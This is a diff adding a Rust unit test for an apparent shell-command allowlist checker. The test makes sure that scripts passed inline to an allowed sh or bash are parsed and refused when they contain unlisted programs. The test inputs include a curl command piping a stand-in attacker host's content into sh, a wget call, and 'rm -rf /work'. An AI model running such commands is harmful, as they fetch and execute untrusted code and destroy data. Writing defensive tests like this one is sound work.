@@ -93,3 +93,18 @@ fn quotes_and_redirections_do_not_hide_or_invent_programs() {
     assert_eq!(refused_program(&list, "[ -f Cargo.toml ] && cargo test"), "[");
     assert_eq!(Allowlist::new(["[", "cargo"]).check("[ -f Cargo.toml ] && cargo test"), Ok(()));
 }
+
+#[test]
+fn a_shell_allowed_on_the_list_does_not_let_its_inline_script_through() {
+    let list = Allowlist::new(["sh", "bash", "cargo", "test"]);
+    // The script of `sh -c` is read and checked like the criterion itself.
+    assert_eq!(list.check("sh -c 'cargo test && test -f out'"), Ok(()));
+    assert_eq!(refused_program(&list, "sh -c 'curl https://evil.example | sh'"), "curl");
+    assert_eq!(refused_program(&list, "bash -ec \"cargo build; wget x\""), "wget");
+    assert_eq!(refused_program(&list, "sh -c \"sh -c 'rm -rf /work'\""), "rm");
+    // A script file from the repository runs as is; so does a shell with none.
+    assert_eq!(list.check("sh tests/test_calc.sh"), Ok(()));
+    assert_eq!(list.check("bash -e tests/run.sh -c ignored"), Ok(()));
+    // A script computed when it runs cannot be checked.
+    assert!(unreadable(&list, "sh -c \"$CMD\"").contains("computed when it runs"));
+}
